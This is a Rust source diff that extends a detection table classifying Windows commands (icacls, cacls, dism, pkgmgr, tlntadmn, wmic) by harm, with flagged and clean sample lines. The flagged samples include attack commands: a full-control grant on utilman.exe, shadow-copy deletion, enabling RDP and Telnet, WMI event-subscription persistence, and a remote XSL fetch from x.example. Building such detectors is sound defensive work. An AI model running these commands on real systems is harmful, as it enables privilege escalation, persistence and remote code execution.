@@ -178,11 +178,11 @@ pub const WINDOWS: &[Program] = &[
         ..W
     },
     Program {
-        names: &["icacls"],
-        source: "https://learn.microsoft.com/windows-server/administration/windows-commands/icacls (/grant, /setowner, /reset change who may use a file)",
-        value_opts: &["-grant", "-deny", "-setowner", "-remove", "-save", "-restore"],
-        subs: &[Sub { words: &["-grant|-setowner|-restore|-remove|-reset|-deny"], harm: SelfEscalation, level: Medium, reason: "changes who may read, change or run files" }],
-        flagged: &["icacls C:\\Windows\\System32\\utilman.exe /grant Everyone:F"],
+        names: &["icacls", "cacls", "xcacls"],
+        source: "https://learn.microsoft.com/windows-server/administration/windows-commands/icacls (/grant, /setowner, /reset, /setintegritylevel, /inheritance change who may use a file), .../cacls (/e edits, /g grants, /p replaces, /r revokes, /d denies: the same switches written for icacls in HackTricks, htwin part 1, session 36)",
+        value_opts: &["-grant", "-deny", "-setowner", "-remove", "-save", "-restore", "-g", "-p", "-r", "-d"],
+        subs: &[Sub { words: &["-grant|-setowner|-restore|-remove|-reset|-deny|-setintegritylevel|-inheritance|-g|-p|-r|-d"], harm: SelfEscalation, level: Medium, reason: "changes who may read, change or run files" }],
+        flagged: &["icacls C:\\Windows\\System32\\utilman.exe /grant Everyone:F", "icacls FILE_PATH /t /e /p USERNAME:F", "cacls C:\\x /e /g Everyone:F"],
         clean: &["icacls notes.txt"],
         ..W
     },
@@ -540,19 +540,33 @@ pub const WINDOWS: &[Program] = &[
         ..W
     },
     Program {
+        names: &["pkgmgr", "dism", "tlntadmn"],
+        source: "https://learn.microsoft.com/windows-hardware/manufacture/desktop/dism-operating-system-package-servicing-command-line-options (/enable-feature, /add-package, /add-capability change the installed system; pkgmgr /iu installs a feature); tlntadmn config changes the Telnet server; HackTricks AV bypass (htwin part 1, session 36)",
+        subs: &[
+            Sub { words: &["-iu|-uu|-ip|-up"], harm: SelfEscalation, level: Medium, reason: "installs or removes a Windows feature or package" },
+            Sub { words: &["-enable-feature|-disable-feature|-add-package|-remove-package|-add-capability|-remove-capability|-add-driver|-remove-driver"], harm: SelfEscalation, level: Medium, reason: "installs or removes a Windows feature or package" },
+            Sub { words: &["config|start|stop"], harm: SelfEscalation, level: Medium, reason: "changes the Telnet server" },
+        ],
+        flagged: &["pkgmgr /iu:\"TelnetServer\" /quiet", "dism /online /enable-feature /featurename:TelnetClient", "tlntadmn config port=80"],
+        clean: &["dism /online /get-features", "dism /get-wiminfo /wimfile:install.wim"],
+        ..W
+    },
+    Program {
         names: &["wmic"],
         source: "https://learn.microsoft.com/windows/win32/wmisdk/wmic (process call create starts a process, shadowcopy delete removes restore points, /format runs an XSL stylesheet's script); ATT&CK T1047, T1490, T1220",
         subs: &[
             Sub { words: &["process", "call", "create"], harm: Evasion, level: Medium, reason: "starts a process through WMI" },
             Sub { words: &["shadowcopy", "delete"], harm: Destructive, level: High, reason: "deletes the volume shadow copies (the machine's restore points)" },
-            Sub { words: &["service", "call"], harm: SelfEscalation, level: Medium, reason: "starts, stops or changes a Windows service through WMI" },
-            Sub { words: &["path", "win32_service|*win32_service", "call"], harm: SelfEscalation, level: Medium, reason: "starts, stops or changes a Windows service through WMI" },
-            Sub { words: &["useraccount|group|path", "call|set"], harm: SelfEscalation, level: Medium, reason: "changes a Windows account or group through WMI" },
+            // Any other method called or property set changes what the
+            // class manages (services, accounts, Remote Desktop,
+            // `rdtoggle ... call SetAllowTSConnections 1`); `process call
+            // create` is the row above.
+            Sub { words: &["?", "call|set", "!create"], harm: SelfEscalation, level: Medium, reason: "calls a WMI method or sets a property (changes a service, an account or a setting)" },
             Sub { words: &["path", "*eventfilter*|*eventconsumer*|*consumerbinding*", "create"], harm: SelfEscalation, level: High, reason: "creates a WMI event subscription (runs a command whenever an event fires: persistence)" },
             Sub { words: &["-format=http*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from the network" },
             Sub { words: &["-format=\\\\*"], harm: RemoteCode, level: High, reason: "runs the script of a stylesheet fetched from a network share" },
         ],
-        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic shadowcopy delete", "wmic service NAMEOFSERVICE call startservice", "wmic path win32_service where name='spooler' call stopservice", "wmic useraccount where name='guest' set disabled=false", "wmic os get /format:\"https://x.example/a.xsl\"", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", ExecutablePath=\"C:\\x.exe\""],
+        flagged: &["wmic.exe process call create \"calc.exe\"", "wmic shadowcopy delete", "wmic service NAMEOFSERVICE call startservice", "wmic path win32_service where name='spooler' call stopservice", "wmic useraccount where name='guest' set disabled=false", "wmic rdtoggle where AllowTSConnections=\"0\" call SetAllowTSConnections \"1\"", "wmic os get /format:\"https://x.example/a.xsl\"", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"x\", ExecutablePath=\"C:\\x.exe\""],
         clean: &["wmic os get caption", "wmic process list brief", "wmic service list brief", "wmic useraccount get name,sid", "wmic path win32_service get name,startmode"],
         ..W
     },
